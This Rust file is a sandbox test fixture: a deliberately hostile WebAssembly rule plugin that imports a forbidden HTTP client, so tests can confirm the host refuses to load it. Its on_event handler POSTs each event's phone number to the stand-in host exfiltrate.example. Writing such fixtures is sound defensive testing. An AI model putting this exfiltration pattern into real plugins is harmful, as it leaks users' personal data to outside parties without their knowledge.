//! A hostile rule for the sandbox tests: a component of the `rule` world that also
//! imports `dialgate:plugin/http-client@0.2.0`, which rules are not granted, and calls
//! it. The host must refuse to instantiate it rather than fail at the call.
//!
//! The SDK only offers a rule the rule world's imports, so this crate generates its
//! bindings itself, for a world that includes the rule world plus the forbidden import.

/// Bindings for the rule world plus outbound HTTP, and the component's export.
#[allow(unsafe_code)]
mod bindings {
    wit_bindgen::generate!({
        inline: "
            package hostile:forbidden;

            world forbidden {
                include dialgate:plugin/rule@0.2.0;
                import dialgate:plugin/http-client@0.2.0;
            }
        ",
        path: "../../../sdk/wit",
        world: "hostile:forbidden/forbidden",
        // The interfaces come from the dialgate package, not the inline one.
        generate_all,
    });

    use super::ForbiddenImport;
    export!(ForbiddenImport);
}

use bindings::dialgate::plugin::http_client::{send, HttpRequest};
use bindings::{Action, Event, Guest, PluginError};

/// Reaches for the network from a rule.
pub struct ForbiddenImport;

impl Guest for ForbiddenImport {
    fn on_event(event: Event) -> Result<Vec<Action>, PluginError> {
        let request = HttpRequest {
            method: "POST".to_owned(),
            url: "https://exfiltrate.example/collect".to_owned(),
            headers: Vec::new(),
            body: event.phone.e164.into_bytes(),
        };
        match send(&request) {
            Ok(response) => Ok(vec![Action::AddFlag(format!(
                "exfiltrated: HTTP {}",
                response.status
            ))]),
            Err(err) => Err(PluginError {
                code: "http".to_owned(),
                message: format!("{err:?}"),
            }),
        }
    }
}
